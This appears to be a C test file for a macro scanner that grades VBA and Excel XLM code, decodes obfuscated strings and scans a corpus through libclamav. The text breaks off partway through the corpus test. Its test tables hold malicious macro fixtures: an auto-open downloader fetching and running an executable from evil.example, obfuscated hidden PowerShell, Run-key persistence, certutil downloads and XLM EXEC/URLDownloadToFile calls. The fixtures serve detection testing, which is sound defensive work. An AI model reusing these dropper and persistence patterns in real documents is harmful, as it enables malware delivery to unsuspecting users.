/*
 * test_heur_vba - heur_vba.c: graded VBA symbols, static decoding, XLM macro sheets
 *
 * Table-driven: each case is a VBA project (up to three modules, written the way libclamav
 * normalizes source: lower case outside literals, continuations joined) with the symbols it
 * must and must not produce; a failing case prints what it got. Weights live in
 * rules/scoring.conf, so cases assert on symbols: formatting macros give VBA_MACRO_PRESENT
 * (+ VBA_AUTOEXEC) only, droppers give the combinations. Emitted layers are collected and
 * compared with the decoded text. Corpus tests (skipped without ../shared/corpus; run from
 * the repository root) extract modules with the real libclamav adapter and print a table.
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <glob.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "lib/buf.h"
#include "heur/vba.h"
#include "heur/xlm.h"
#include "model/hit.h"
#include "model/layer.h"
#include "scan/clamav.h"
#include "lib/xalloc.h"

#define CORPUS "../shared/corpus"
#define LOC    "1/t.docm>vbaProject.bin"

/* ------------------------------------------------------------------ helpers */

typedef struct LAYERSEEN {
    char how[16], lang[8];
    BUF *data;
} LAYERSEEN;

typedef struct EMITS {
    LAYERSEEN v[128];
    size_t n, bytes;
} EMITS;

/* on_emit - collect what heur_vba hands back */
static void on_emit(void *ctx, const char *how, const char *lang, const unsigned char *data,
                    size_t n)
{
    EMITS *e = ctx;
    e->bytes += n;
    if (e->n >= 128)
        return;
    LAYERSEEN *l = &e->v[e->n++];
    snprintf(l->how, sizeof(l->how), "%s", how);
    snprintf(l->lang, sizeof(l->lang), "%s", lang ? lang : "-");
    l->data = buf_new(n + 1);
    buf_cat(l->data, data, n);
}

/* emits_free - release collected layers */
static void emits_free(EMITS *e)
{
    for (size_t i = 0; i < e->n; i++)
        buf_free(e->v[i].data);
    e->n = e->bytes = 0;
}

/* ctx - a HEUR_CTX over hits, emitting into e (may be NULL) */
static HEUR_CTX ctx(HITS *h, EMITS *e)
{
    return (HEUR_CTX){.hits = h,
                      .location = LOC,
                      .emit = e ? on_emit : NULL,
                      .emit_ctx = e,
                      .max_decoded = 1 << 20,
                      .min_base64 = 40};
}

/* run_vba - heur_vba over up to nm NUL-terminated modules */
static void run_vba(HEUR_CTX *c, const char *const *mods, size_t nm)
{
    size_t len[8];
    for (size_t i = 0; i < nm; i++)
        len[i] = strlen(mods[i]);
    heur_vba(c, mods, len, nm);
}

/* symbols - the hit symbols, space-separated */
static void symbols(const HITS *h, BUF *out)
{
    for (size_t i = 0; i < h->n; i++)
        buf_printf(out, "%s%s", i ? " " : "", h->v[i].symbol);
}

/* check_list - every symbol of the space-separated list is (want) or is not present */
static int check_list(const HITS *h, const char *list, bool want, const char *name)
{
    int bad = 0;
    char *copy = xstrdup(list ? list : ""), *save = NULL;
    for (char *s = strtok_r(copy, " ", &save); s; s = strtok_r(NULL, " ", &save))
        if (hits_has(h, s) != want) {
            printf("    FAIL %s: %s %s\n", name, s, want ? "missing" : "unexpected");
            bad++;
        }
    free(copy);
    return bad;
}

/* dump - print hits with details */
static void dump(const HITS *h)
{
    for (size_t i = 0; i < h->n; i++)
        printf("      %s: %s\n", h->v[i].symbol, h->v[i].detail);
}

/* ------------------------------------------------------------------ VBA cases */

typedef struct CASE {
    const char *name;
    const char *mod[3];
    const char *want, *nowant;
} CASE;

#define CAPS_HIGH                                                                                  \
    "VBA_AUTOEXEC_WRITE VBA_AUTOEXEC_EXECUTE VBA_AUTOEXEC_DOWNLOAD VBA_AUTOEXEC_EXEC_DOWNLOAD "    \
    "VBA_REGISTRY_WRITE VBA_HIDDEN_COMMAND"

/* a junk assignment of 1200 bytes on one line */
#define LONGLINE "x = y + 1" J100 J100 J100 J100 J100 J100 J100 J100 J100 J100 J100 J100 "\n"
#define J10      " + 1 + 1 +"
#define J100     J10 J10 J10 J10 J10 J10 J10 J10 J10 J10

static const CASE cases[] = {
    {"formatting macro",
     {"attribute vb_name = \"Module1\"\nsub formatcells()\n range(\"A1:D10\").font.bold = true\n"
      " columns(\"A:D\").autofit\n range(\"A1\").interior.color = rgb(200, 200, 255)\nend sub\n"},
     "VBA_MACRO_PRESENT",
     "VBA_AUTOEXEC VBA_WRITE VBA_EXECUTE VBA_DOWNLOAD VBA_OBFUSCATION " CAPS_HIGH},
    {"workbook_open that sets widths and shows a msgbox",
     {"attribute vb_name = \"ThisWorkbook\"\nprivate sub workbook_open()\n"
      " columns(\"A\").columnwidth = 20\n msgbox \"Welcome, the report is ready\"\nend sub\n"},
     "VBA_MACRO_PRESENT VBA_AUTOEXEC",
     "VBA_WRITE VBA_EXECUTE VBA_DOWNLOAD VBA_OBFUSCATION " CAPS_HIGH},
    {"log writer without auto-exec",
     {"sub logit(msg as string)\n open \"C:\\Temp\\log.txt\" for append as #1\n"
      " print #1, now & \" \" & msg\n close #1\nend sub\n"},
     "VBA_MACRO_PRESENT VBA_WRITE",
     "VBA_AUTOEXEC VBA_EXECUTE " CAPS_HIGH},
    {"reader: open for binary access read",
     {"sub document_open()\n open f for binary access read as #1\n get #1, , b\n close #1\n"
      "end sub\n"},
     "VBA_AUTOEXEC",
     "VBA_WRITE VBA_AUTOEXEC_WRITE"},
    {"comments, end sub, dim shell as object",
     {"sub autoopen()\n' shell \"cmd /c calc\"\nrem urldownloadtofile 0, \"http://x\", \"y\", 0, "
      "0\n"
      " dim shell as object\n msgbox \"Done\" ' createobject(\"wscript.shell\").run\nend sub\n"},
     "VBA_AUTOEXEC",
     "VBA_EXECUTE VBA_DOWNLOAD VBA_AUTOEXEC_EXECUTE VBA_AUTOEXEC_DOWNLOAD"},
    {"auto-exec + write",
     {"sub document_open()\n open environ(\"TEMP\") & \"\\a.vbs\" for output as #1\n"
      " print #1, payload\n close #1\nend sub\n"},
     "VBA_AUTOEXEC VBA_AUTOEXEC_WRITE",
     "VBA_AUTOEXEC_EXECUTE VBA_AUTOEXEC_DOWNLOAD"},
    {"classic downloader over two modules",
     {"attribute vb_name = \"ThisDocument\"\nprivate sub document_open()\n module1.go\nend sub\n",
      "attribute vb_name = \"Module1\"\nsub go()\n"
      " set x = createobject(\"MSXML2.XMLHTTP\")\n x.open \"GET\", \"http://evil.example/a.exe\", "
      "false\n x.send\n set s = createobject(\"ADODB.Stream\")\n s.open\n s.type = 1\n"
      " s.write x.responsebody\n s.savetofile environ(\"TEMP\") & \"\\a.exe\", 2\n"
      " shell environ(\"TEMP\") & \"\\a.exe\", 0\nend sub\n"},
     "VBA_MACRO_PRESENT VBA_AUTOEXEC VBA_AUTOEXEC_WRITE VBA_AUTOEXEC_EXECUTE "
     "VBA_AUTOEXEC_DOWNLOAD VBA_AUTOEXEC_EXEC_DOWNLOAD",
     "VBA_WRITE VBA_EXECUTE VBA_DOWNLOAD VBA_EXEC_DOWNLOAD VBA_HIDDEN_COMMAND"},
    {"chr() chain hiding powershell",
     {"sub autoopen()\n shell(chr(112) & chr(111) & chr(119) & chr(101) & chr(114) & chr(115) & "
      "chr(104) & chr(101) & chr(108) & chr(108) & \" -w hidden -c calc\")\nend sub\n"},
     "VBA_AUTOEXEC_EXECUTE VBA_OBFUSCATION VBA_HIDDEN_COMMAND",
     "VBA_DOWNLOAD"},
    {"strreverse of the ProgID",
     {"sub workbook_open()\n createobject(strreverse(\"llehs.tpircsw\")).run "
      "strreverse(\"clac c/ exe.dmc\"), 0\nend sub\n"},
     "VBA_AUTOEXEC_EXECUTE VBA_OBFUSCATION VBA_HIDDEN_COMMAND",
     NULL},
    {"registry Run key through wscript.shell",
     {"sub auto_open()\n set sh = createobject(\"wscript.shell\")\n"
      " sh.regwrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd\", "
      "\"mshta javascript:close()\", \"REG_SZ\"\nend sub\n"},
     "VBA_AUTOEXEC_EXECUTE VBA_REGISTRY_WRITE",
     "VBA_DOWNLOAD VBA_HIDDEN_COMMAND"},
    {"registry through StdRegProv",
     {"sub document_open()\n set r = getobject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\"
      "root\\default:StdRegProv\")\n r.setstringvalue &h80000001, "
      "\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", \"x\", \"powershell -enc AAA\"\n"
      "end sub\n"},
     "VBA_REGISTRY_WRITE VBA_AUTOEXEC_EXECUTE",
     "VBA_WMI_PROCESS"},
    {"savesetting only",
     {"sub saveprefs()\n savesetting \"MyApp\", \"Startup\", \"Top\", 75\nend sub\n"},
     "VBA_SAVESETTING",
     "VBA_REGISTRY_WRITE VBA_EXECUTE"},
    {"WMI Win32_Process.Create",
     {"sub document_open()\n set p = getobject(\"winmgmts:\\\\.\\root\\cimv2:win32_process\")\n"
      " p.create \"cmd /c calc\", null, null, pid\nend sub\n"},
     "VBA_WMI_PROCESS VBA_AUTOEXEC_EXECUTE",
     "VBA_DOWNLOAD"},
    {"declare ptrsafe urldownloadtofile + shellcode API",
     {"private declare ptrsafe function urldownloadtofile lib \"urlmon\" alias "
      "\"URLDownloadToFileA\" (byval a as longptr, byval b as string, byval c as string, "
      "byval d as long, byval e as longptr) as long\n"
      "private declare ptrsafe function virtualalloc lib \"kernel32\" (byval a as longptr, "
      "byval b as long, byval c as long, byval d as long) as longptr\n"
      "sub fetch()\n urldownloadtofile 0, \"http://x.example/a\", \"c:\\a\", 0, 0\nend sub\n"},
     "VBA_DECLARE_LIB VBA_DOWNLOAD VBA_SHELLCODE_API",
     "VBA_AUTOEXEC VBA_AUTOEXEC_DOWNLOAD"},
    {"ActiveX Frame1_Layout trigger",
     {"private sub frame1_layout()\n shell \"cmd /c calc\", vbhide\nend sub\n"},
     "VBA_AUTOEXEC VBA_AUTOEXEC_EXECUTE",
     NULL},
    {"ActiveX InkPicture1_Painted trigger",
     {"sub inkpicture1_painted(byval hdc as long, byval rect as any)\n"
      " createobject(\"shell.application\").shellexecute \"calc.exe\"\nend sub\n"},
     "VBA_AUTOEXEC VBA_AUTOEXEC_EXECUTE",
     NULL},
    {"button click is not auto-exec",
     {"private sub commandbutton1_click()\n shell \"notepad.exe\", vbnormalfocus\nend sub\n"},
     "VBA_EXECUTE",
     "VBA_AUTOEXEC VBA_AUTOEXEC_EXECUTE"},
    {"callbyname",
     {"sub x()\n callbyname o, \"Run\", vbmethod, \"calc\"\nend sub\n"},
     "VBA_CALLBYNAME",
     NULL},
    {"concatenated command word",
     {"sub document_open()\n c = \"po\" & \"wer\" & \"she\" & \"ll -nop -w hidden -c \" & \"iex\"\n"
      " createobject(\"wscript.shell\").run c, 0\nend sub\n"},
     "VBA_AUTOEXEC_EXECUTE VBA_HIDDEN_COMMAND",
     NULL},
    {"replace of junk",
     {"sub autoopen()\n x = replace(\"pXoXwXeXrXsXhXeXlXl -c calc\", \"X\", \"\")\n shell x\n"
      "end sub\n"},
     "VBA_AUTOEXEC_EXECUTE VBA_OBFUSCATION VBA_HIDDEN_COMMAND",
     NULL},
    {"base64 -EncodedCommand",
     {"sub autoopen()\n shell \"powershell -enc "
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\"\n"
      "end sub\n"},
     "VBA_AUTOEXEC_EXECUTE VBA_OBFUSCATION VBA_HIDDEN_COMMAND VBA_AUTOEXEC_EXEC_DOWNLOAD",
     "VBA_DOWNLOAD VBA_EXECUTE"},
    {"words in a message are not statements",
     {"sub workbook_open()\n msgbox \"Please open the file for output review, then name it as "
      "you like\"\n workbooks.open \"C:\\data\\report.xlsx\"\n application.run \"macro1\"\nend "
      "sub\n"},
     "VBA_AUTOEXEC",
     "VBA_AUTOEXEC_WRITE VBA_AUTOEXEC_EXECUTE VBA_WRITE VBA_EXECUTE"},
    {"name ... as, kill after then",
     {"sub tidy()\n name \"a.txt\" as \"b.txt\"\n if dir(f) <> \"\" then kill f\nend sub\n"},
     "VBA_WRITE",
     "VBA_AUTOEXEC VBA_EXECUTE"},
    {"reg add in a literal, certutil",
     {"sub auto_close()\n shell \"cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\"
      "CurrentVersion\\Run /v u /d x.exe & certutil -urlcache -f http://x/a a.exe\"\nend sub\n"},
     "VBA_AUTOEXEC VBA_REGISTRY_WRITE VBA_AUTOEXEC_EXEC_DOWNLOAD",
     "VBA_HIDDEN_COMMAND"},
    {"many very long lines",
     {LONGLINE LONGLINE LONGLINE},
     "VBA_OBFUSCATION",
     "VBA_AUTOEXEC VBA_EXECUTE"},
    {"mixed case source (not normalized)",
     {"Sub Document_Open()\n    Shell \"calc.exe\"\nEnd Sub\n"},
     "VBA_AUTOEXEC VBA_AUTOEXEC_EXECUTE",
     NULL},
};

/* test_cases - the table above */
static void test_cases(void **state)
{
    (void)state;
    int bad = 0;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const CASE *t = &cases[i];
        size_t nm = 0;
        while (nm < 3 && t->mod[nm])
            nm++;
        HITS *h = hits_new();
        HEUR_CTX c = ctx(h, NULL);
        run_vba(&c, t->mod, nm);
        int b = check_list(h, "VBA_MACRO_PRESENT", true, t->name) +
                check_list(h, t->want, true, t->name) + check_list(h, t->nowant, false, t->name);
        BUF *got = buf_new(64);
        symbols(h, got);
        printf("    %-50s %s\n", t->name, got->data);
        if (b)
            dump(h);
        bad += b;
        buf_free(got);
        hits_free(h);
    }
    assert_int_equal(bad, 0);
}

/* test_details - the combination names the trigger and the evidence */
static void test_details(void **state)
{
    (void)state;
    HITS *h = hits_new();
    HEUR_CTX c = ctx(h, NULL);
    const char *m[] = {"sub document_open()\n shell(\"cmd /c calc\")\nend sub\n"};
    run_vba(&c, m, 1);
    for (size_t i = 0; i < h->n; i++) {
        assert_string_equal(h->v[i].location, LOC);
        if (strcmp(h->v[i].symbol, "VBA_AUTOEXEC_EXECUTE") == 0)
            assert_string_equal(h->v[i].detail, "document_open + shell");
        if (strcmp(h->v[i].symbol, "VBA_AUTOEXEC") == 0)
            assert_string_equal(h->v[i].detail, "document_open");
    }
    hits_free(h);
    /* evidence that only decoding shows is marked */
    h = hits_new();
    c = ctx(h, NULL);
    const char *m2[] = {"sub autoopen()\n createobject(\"WScr\" & \"ipt.Shell\").run x\nend sub\n"};
    run_vba(&c, m2, 1);
    dump(h);
    assert_true(hits_has(h, "VBA_AUTOEXEC_EXECUTE"));
    assert_non_null(strstr(h->v[h->n - 1].detail, "wscript.shell"));
    for (size_t i = 0; i < h->n; i++)
        if (strcmp(h->v[i].symbol, "VBA_AUTOEXEC_EXECUTE") == 0)
            assert_string_equal(h->v[i].detail, "autoopen + wscript.shell (decoded)");
    hits_free(h);
}

/* ------------------------------------------------------------------ decoding */

typedef struct DCASE {
    const char *name, *src, *how, *lang, *want; /* want: the whole decoded text */
} DCASE;

static const DCASE dcases[] = {
    {"chr chain",
     "x = chr(112) & chr(111) & chr(119) & chr(101) & chr(114) & chr(115) & chr(104) & chr(101) "
     "& chr(108) & chr(108) & \" -nop\"",
     "charcodes", "ps1", "powershell -nop"},
    {"chr arithmetic and hex",
     "x = chr(80 + 32) & chrw(&h6f) & chr$(120 - 1) & chrb(50+51) & \"rshell\"", "charcodes", "ps1",
     "powershell"},
    {"chr parentheses and unary minus", "x = chr((100) - -12) & chr(-(-111)) & \"wershell\"",
     "charcodes", "ps1", "powershell"},
    {"concat", "c = \"po\" & \"wer\" + \"shell -c dir\"", "concat", "ps1", "powershell -c dir"},
    {"strreverse", "x = strreverse(\"llehs.tpircsw\")", "reverse", "vbs", "wscript.shell"},
    {"strreverse of a concat", "x = strreverse(\"exe.dm\" & \"c c/\")", "reverse", "vbs",
     "/c cmd.exe"},
    {"replace", "x = replace(\"mXsXhXtXa http://a/b\", \"X\", \"\")", "replace", "vbs",
     "mshta http://a/b"},
    {"nested replace", "x = replace(replace(\"c#m@d.exe /c\", \"#\", \"\"), \"@\", \"\")",
     "replace", "vbs", "cmd.exe /c"},
    {"vb constants", "x = \"line one\" & vbcrlf & \"line two\"", "concat", "vbs",
     "line one\r\nline two"},
    {"doubled quotes", "x = \"a \"\"quoted\"\" \" & \"word\"", "concat", "vbs",
     "a \"quoted\" word"},
    {"base64 text", "x = \"cG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtYyBJRVggKGRpcik=\"", "base64", "ps1",
     "powershell -nop -w hidden -c IEX (dir)"},
    {"base64 UTF-16LE",
     "x = \"powershell -e "
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\"",
     "base64", "ps1", "IEX (New-Object Net.WebClient)"},
    {"hex", "x = \"706f7765727368656c6c202d6e6f70202d77206869646465\"", "hex", "ps1",
     "powershell -nop -w hidde"},
    {"base64 of binary", "x = \"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA\"",
     "base64", "-", "MZ"},
};

/* test_decode - emitted layers: how, lang, and the decoded text */
static void test_decode(void **state)
{
    (void)state;
    int bad = 0;
    for (size_t i = 0; i < sizeof(dcases) / sizeof(dcases[0]); i++) {
        const DCASE *t = &dcases[i];
        HITS *h = hits_new();
        EMITS e = {0};
        HEUR_CTX c = ctx(h, &e);
        const char *m[] = {t->src};
        run_vba(&c, m, 1);
        const LAYERSEEN *l = NULL;
        for (size_t k = 0; k < e.n && !l; k++)
            if (strcmp(e.v[k].how, t->how) == 0 && e.v[k].data->len >= strlen(t->want) &&
                memcmp(e.v[k].data->data, t->want, strlen(t->want)) == 0)
                l = &e.v[k];
        printf("    %-32s %s\n", t->name, l ? "ok" : "MISSING");
        if (l == NULL || strcmp(l->lang, t->lang) != 0) {
            for (size_t k = 0; k < e.n; k++)
                printf("      got %s/%s '%s'\n", e.v[k].how, e.v[k].lang, e.v[k].data->data);
            bad++;
        }
        emits_free(&e);
        hits_free(h);
    }
    assert_int_equal(bad, 0);
}

/* test_emit_rules - short, plain and repeated strings are not emitted; bounds hold */
static void test_emit_rules(void **state)
{
    (void)state;
    HITS *h = hits_new();
    EMITS e = {0};
    HEUR_CTX c = ctx(h, &e);
    const char *m[] = {"x = \"a plain literal string\"\ny = \"ab\" & \"cd\"\n"
                       "z = \"same\" & \" text here\"\nw = \"same\" & \" text here\"\n",
                       "q = \"same \" & \"text here\"\n"};
    run_vba(&c, m, 2);
    assert_int_equal(e.n, 1); /* one layer: "same text here", once across modules */
    assert_string_equal(e.v[0].data->data, "same text here");
    emits_free(&e);
    /* max_decoded bounds the total; EMIT_MAX bounds the count */
    BUF *src = buf_new(1 << 16);
    for (int i = 0; i < 400; i++)
        buf_printf(src, "x%d = \"piece number %d \" & \"of a long list of strings\"\n", i, i);
    c.max_decoded = 1000;
    const char *m2[] = {src->data};
    run_vba(&c, m2, 1);
    printf("    %zu layers, %zu bytes\n", e.n, e.bytes);
    assert_true(e.bytes <= 1000);
    assert_true(e.n > 0 && e.n <= 64);
    emits_free(&e);
    c.max_decoded = 1 << 20;
    run_vba(&c, m2, 1);
    assert_int_equal(e.n, 64);
    emits_free(&e);
    buf_free(src);
    hits_free(h);
}

/* test_hostile - linear bounds: deep nesting, long chains, unclosed strings, binary junk */
static void test_hostile(void **state)
{
    (void)state;
    BUF *b[6];
    for (int i = 0; i < 6; i++)
        b[i] = buf_new(1 << 20);
    for (int i = 0; i < 100000; i++)
        buf_puts(b[0], "strreverse(replace((chr(");
    for (int i = 0; i < 200000; i++)
        buf_puts(b[1], i % 2 ? " & chr(65)" : " & \"a\"");
    for (int i = 0; i < 50000; i++)
        buf_puts(b[2], "\"unclosed open for output name declare sub shell(\n");
    for (unsigned i = 0; i < 1u << 20; i++)
        buf_putc(b[3], (int)((i * 7919u) & 0xff));
    for (int i = 0; i < 100000; i++)
        buf_puts(b[4],
                 "replace(\"aaaaaaaaaaaaaaaaaaaa\", \"a\", \"bbbbbbbbbbbbbbbbbbbbbbbbb\") & ");
    for (int i = 0; i < 300000; i++)
        buf_puts(b[5], "QUJD");
    const char *m[6];
    size_t len[6];
    for (int i = 0; i < 6; i++)
        m[i] = b[i]->data, len[i] = b[i]->len;
    HITS *h = hits_new();
    EMITS e = {0};
    HEUR_CTX c = ctx(h, &e);
    clock_t t0 = clock();
    heur_vba(&c, m, len, 6);
    double secs = (double)(clock() - t0) / CLOCKS_PER_SEC;
    printf("    hostile modules (%zu KiB): %.2f s, %zu hits, %zu layers, %zu bytes\n",
           (b[0]->len + b[1]->len + b[2]->len + b[3]->len + b[4]->len + b[5]->len) >> 10, secs,
           h->n, e.n, e.bytes);
    dump(h);
    assert_true(secs < 20);
    assert_true(e.bytes <= 1 << 20);
    /* NULL and empty inputs */
    heur_vba(&c, NULL, NULL, 0);
    const char *empty[] = {"", NULL};
    size_t zl[] = {0, 0};
    heur_vba(&c, empty, zl, 2);
    heur_xlm(&c, NULL, 0);
    heur_xlm(&c, (const unsigned char *)"", 0);
    emits_free(&e);
    hits_free(h);
    for (int i = 0; i < 6; i++)
        buf_free(b[i]);
}

/* ------------------------------------------------------------------ XLM */

typedef struct XCASE {
    const char *name;
    const unsigned char *data;
    size_t len; /* 0: strlen */
    const char *want, *nowant;
} XCASE;

/* U - a literal as unsigned bytes */
#define U(s) ((const unsigned char *)(s))

static const unsigned char utf16_exec[] = "=\0E\0X\0E\0C\0(\0\"\0c\0a\0l\0c\0\"\0)\0";

static const XCASE xcases[] = {
    {"macrosheet EXEC + workbook auto_open",
     U("<definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
       "<sheetData><c r=\"A1\"><f>EXEC(\"cmd /c calc\")</f></c><c><f>HALT()</f></c></sheetData>"),
     0, "XLM_AUTO_OPEN XLM_EXEC XLM_AUTO_OPEN_EXEC", "XLM_CALL_REGISTER XLM_DOWNLOAD"},
    {"CALL urlmon",
     U("<f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/a\",\"c:\\a.exe\",0,0)</"
       "f>"
       "<f>REGISTER(\"kernel32\",\"WinExec\",\"JCJ\",\"run\",,1,9)</f>"),
     0, "XLM_CALL_REGISTER XLM_DOWNLOAD", "XLM_AUTO_OPEN XLM_AUTO_OPEN_EXEC"},
    {"UTF-16LE EXEC", utf16_exec, sizeof(utf16_exec) - 1, "XLM_EXEC", "XLM_AUTO_OPEN"},
    {"CHAR obfuscation with FORMULA",
     U("<f>FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&CHAR(40)&CHAR(34)&CHAR(99)&"
       "CHAR(97)&CHAR(108)&CHAR(99)&CHAR(34)&CHAR(41),A5)</f><f>GOTO(A5)</f>"),
     0, "XLM_OBFUSCATION", "XLM_EXEC"},
    {"ordinary worksheet formulas",
     U("<f>SUM(A1:A3)</f><f>CONCATENATE(A1,CHAR(10),B1)</f><f>RECALL(1)</f><f>MYEXEC(1)</f>"), 0,
     NULL, "XLM_EXEC XLM_CALL_REGISTER XLM_OBFUSCATION XLM_AUTO_OPEN"},
    {"SYLK", U("ID;P\nNN;NAuto_Open;ER1C1\nC;Y1;X1;EEXEC(\"calc\")\nC;Y2;EHALT()\nE\n"), 0,
     "XLM_AUTO_OPEN XLM_EXEC XLM_AUTO_OPEN_EXEC", NULL},
};

/* le - append a little-endian integer */
static void le(BUF *b, unsigned v, int bytes)
{
    for (int i = 0; i < bytes; i++)
        buf_putc(b, (int)((v >> (8 * i)) & 0xff));
}

/* record - append one BIFF record */
static void record(BUF *b, unsigned type, const void *body, size_t n)
{
    le(b, type, 2);
    le(b, (unsigned)n, 2);
    buf_cat(b, body, n);
}

/* biff8 - a BIFF8 workbook stream: very hidden macro sheet, built-in Auto_Open, a FORMULA
 * whose tokens are ptgStr "calc" (with bytes that look like a ptgFunc EXEC inside) and then
 * (real: true) ptgFuncVar EXEC */
static BUF *biff8(bool real)
{
    BUF *b = buf_new(256);
    static const unsigned char bof[16] = {0x00, 0x06, 0x05, 0x00};
    static const unsigned char sheet[] = {0, 0, 0, 0, 2, 1, 6, 0, 'M', 'a', 'c', 'r', 'o', '1'};
    static const unsigned char name[] = {0x20, 0, 0, 1, 7, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
    record(b, 0x0809, bof, sizeof(bof));
    record(b, 0x0085, sheet, real ? sizeof(sheet) : 0);
    if (real)
        record(b, 0x0018, name, sizeof(name));
    unsigned char f[64] = {0};
    size_t n = 22;
    unsigned char rgce[] = {0x17, 4, 0, 'A', 'n', 0, 'c', 0x42, 0x01, 0x6e, 0x00};
    size_t rl = real ? sizeof(rgce) : 7;
    f[20] = (unsigned char)rl;
    memcpy(f + n, rgce, rl);
    record(b, 0x0006, f, n + rl);
    record(b, 0x000a, "", 0);
    return b;
}

/* test_xlm - the table, and BIFF records built here */
static void test_xlm(void **state)
{
    (void)state;
    int bad = 0;
    for (size_t i = 0; i < sizeof(xcases) / sizeof(xcases[0]); i++) {
        const XCASE *t = &xcases[i];
        HITS *h = hits_new();
        HEUR_CTX c = ctx(h, NULL);
        heur_xlm(&c, t->data, t->len ? t->len : strlen((const char *)t->data));
        int b = check_list(h, t->want, true, t->name) + check_list(h, t->nowant, false, t->name);
        BUF *got = buf_new(64);
        symbols(h, got);
        printf("    %-40s %s\n", t->name, got->data);
        if (b)
            dump(h);
        bad += b;
        buf_free(got);
        hits_free(h);
    }
    for (int real = 0; real < 2; real++) {
        BUF *s = biff8(real);
        HITS *h = hits_new();
        HEUR_CTX c = ctx(h, NULL);
        heur_xlm(&c, (const unsigned char *)s->data, s->len);
        BUF *got = buf_new(64);
        symbols(h, got);
        printf("    BIFF8 %-34s %s\n", real ? "macro sheet" : "string only", got->data);
        if (real)
            bad += check_list(h, "XLM_EXEC XLM_AUTO_OPEN XLM_AUTO_OPEN_EXEC XLM_HIDDEN_SHEET", true,
                              "BIFF8");
        else
            bad += check_list(h, "XLM_EXEC XLM_AUTO_OPEN XLM_HIDDEN_SHEET", false, "BIFF8 strings");
        /* truncated streams stay inside the buffer */
        for (size_t cut = 0; cut < s->len; cut++)
            heur_xlm(&c, (const unsigned char *)s->data, cut);
        buf_free(got);
        buf_free(s);
        hits_free(h);
    }
    assert_int_equal(bad, 0);
}

/* ------------------------------------------------------------------ corpus */

typedef struct MODS {
    char *src[256];
    size_t len[256], n;
    HITS *xlm; /* heur_xlm over every layer, when set */
} MODS;

/* on_vba - keep a copy of every module */
static void on_vba(void *ctx_, const VBA_MODULE *m)
{
    MODS *s = ctx_;
    if (s->n < 256) {
        s->src[s->n] = xmemdup(m->source, m->len + 1);
        s->len[s->n++] = m->len;
    }
}

/* on_layer - heur_xlm over each unpacked layer */
static void on_layer(void *ctx_, const LAYER *y, const unsigned char *data, size_t n)
{
    MODS *s = ctx_;
    if (s->xlm == NULL)
        return;
    HEUR_CTX c = ctx(s->xlm, NULL);
    c.location = y->location;
    heur_xlm(&c, data, n);
}

/* engine_load - libclamav with one trivial signature in a temp dir */
static CLAMAV *engine_load(char *dir)
{
    BUF *err = buf_new(64);
    assert_non_null(mkdtemp(dir));
    char *path = xasprintf("%s/trivial.ndb", dir);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("Fileless.Test.Never:0:*:00112233445566778899aabbccddeeff0011223344\n", f);
    fclose(f);
    assert_int_equal(clamav_init(err), 0);
    CLAMAV *e = clamav_load(dir, NULL, err);
    if (e == NULL)
        printf("    clamav: %s\n", err->data);
    assert_non_null(e);
    unlink(path);
    rmdir(dir);
    free(path);
    buf_free(err);
    return e;
}

/* scan_file - modules (and XLM hits over layers) of one corpus file; false when missing */
static bool scan_file(const CLAMAV *e, const char *path, MODS *s)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL)
        return false;
    BUF *b = buf_new(1 << 16);
    char chunk[65536];
    size_t k;
    while ((k = fread(chunk, 1, sizeof(chunk), f)) > 0)
        buf_cat(b, chunk, k);
    fclose(f);
    LAYERS *l = layers_new();
    HITS *h = hits_new();
    const char *base = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
    CLAMAV_JOB job = {.location = "1",
                      .part = "1",
                      .filename = base,
                      .data = (const unsigned char *)b->data,
                      .len = b->len,
                      .layers = l,
                      .hits = h,
                      .on_layer = on_layer,
                      .on_vba = on_vba,
                      .ctx = s};
    assert_int_equal(clamav_scan(e, &job), 0);
    if (s->xlm) {
        HEUR_CTX c = ctx(s->xlm, NULL);
        c.location = "1";
        heur_xlm(&c, (const unsigned char *)b->data, b->len);
    }
    layers_free(l);
    hits_free(h);
    buf_free(b);
    return true;
}

/* mods_free - release kept modules */
static void mods_free(MODS *s)
{
    for (size_t i = 0; i < s->n; i++)
        free(s->src[i]);
    s->n = 0;
}

/* corpus_present - ../shared/corpus exists */
static bool corpus_present(void)
{
    struct stat st;
    return stat(CORPUS, &st) == 0 && S_ISDIR(st.st_mode);
}

/* wanted - a files.tsv row names a macro file this test reads */
static bool wanted(const char *set, const char *rel, const char *notable)
{
    const char *base = strrchr(rel, '/') ? strrchr(rel, '/') + 1 : rel;
    if (strcmp(set, "oletools") == 0 || strcmp(set, "office-xlsxwriter-vba") == 0)
        return strstr(notable, "vba") != NULL;
    return strcmp(set, "office-apache-poi") == 0 && strncmp(base, "SimpleMacro.", 12) == 0 &&
           strstr(base, ".vba") == NULL;
}

/* test_corpus_vba - every macro file of the corpus through libclamav and heur_vba */
static void test_corpus_vba(void **state)
{
    (void)state;
    FILE *tsv = corpus_present() ? fopen(CORPUS "/files.tsv", "r") : NULL;
    if (tsv == NULL)
        skip();
    char line[2048], dir[] = "/tmp/fm-heur-vba-XXXXXX";
    CLAMAV *e = engine_load(dir);
